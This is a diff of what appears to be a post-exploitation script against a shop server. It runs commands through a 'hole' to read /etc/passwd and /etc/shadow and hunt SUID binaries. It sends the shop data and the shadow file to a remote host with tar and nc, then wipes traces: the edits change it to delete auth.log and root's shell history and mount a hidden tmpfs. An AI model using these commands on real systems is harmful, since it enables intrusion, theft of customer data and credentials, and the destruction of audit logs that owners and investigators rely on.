@@ -23,7 +23,7 @@ su anna -s /bin/sh -c 'ls -l /home/anna; tail -n 1 /var/log/shop.log'
 gzip -c /var/lib/shop/customers.csv >/var/lib/shop/customers.csv.gz
 
 # A look around through the hole.
-ask 'id; uname -a; cat /etc/passwd; ps'
+ask 'id; uname -r; cat /etc/passwd; ps'
 ask 'find / -xdev -perm -4000 2>&1'
 ask 'cat /etc/shadow 2>&1'
 
@@ -53,7 +53,7 @@ sleep 1
 as_root "tar cz /var/lib/shop /etc/shadow | nc $FOE 4445"
 
 # The traces are wiped.
-as_root 'rm -f /var/log/shop.log'
-as_root 'ln -sf /dev/null /root/.ash_history'
+as_root 'rm -f /var/log/auth.log'
+as_root 'rm -f /root/.ash_history'
 as_root 'mount -t tmpfs hide /mnt'
 sleep 1
